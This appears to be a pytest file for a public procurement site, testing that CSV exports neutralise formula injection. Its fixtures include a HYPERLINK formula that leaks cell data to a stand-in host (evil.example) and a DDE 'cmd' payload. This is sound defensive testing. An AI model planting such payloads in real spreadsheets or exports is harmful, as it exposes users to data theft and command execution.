"""CSV cells are data in a spreadsheet, never formulas (OWASP CSV injection)."""

import csv
import io
import re
from pathlib import Path

import pytest

from core import spreadsheet
from procurement.public.public_index import PublicRecord
from public_site.search import index as search_index
from tests.conftest import START


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        (
            '=HYPERLINK("http://evil.example","click")',
            '\'=HYPERLINK("http://evil.example","click")',
        ),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-5", "-5"),
        ("+1.50", "+1.50"),
        ("-1e3", "-1e3"),
        ("Road works", "Road works"),
        (-5, -5),
        (None, None),
    ],
)
def test_a_cell_that_would_start_a_formula_is_quoted_and_numbers_stay(value, safe):
    assert spreadsheet.cell(value) == safe


def test_a_tender_titled_as_a_formula_lands_as_text_in_search_csv(client, session, clock):
    title = '=HYPERLINK("http://evil.example/?leak="&A1,"Road works")'
    record = PublicRecord(kind="tender", key="T-1", title=title, body="", url="/t/1", sort_at=START)
    search_index.upsert(session, [record], now=clock())
    rows = list(csv.DictReader(io.StringIO(client.get("/search.csv").text)))
    assert [r["title"] for r in rows] == ["'" + title]


def test_every_csv_export_writes_through_the_safe_writer():
    root = Path(__file__).resolve().parents[2]
    direct = [
        str(path.relative_to(root))
        for package in ("core", "procurement", "permits", "public_site", "prongsai")
        for path in (root / package).rglob("*.py")
        if path.name != "spreadsheet.py"
        and re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
    ]
    assert direct == [], "write CSV with core.spreadsheet.writer or dict_writer"
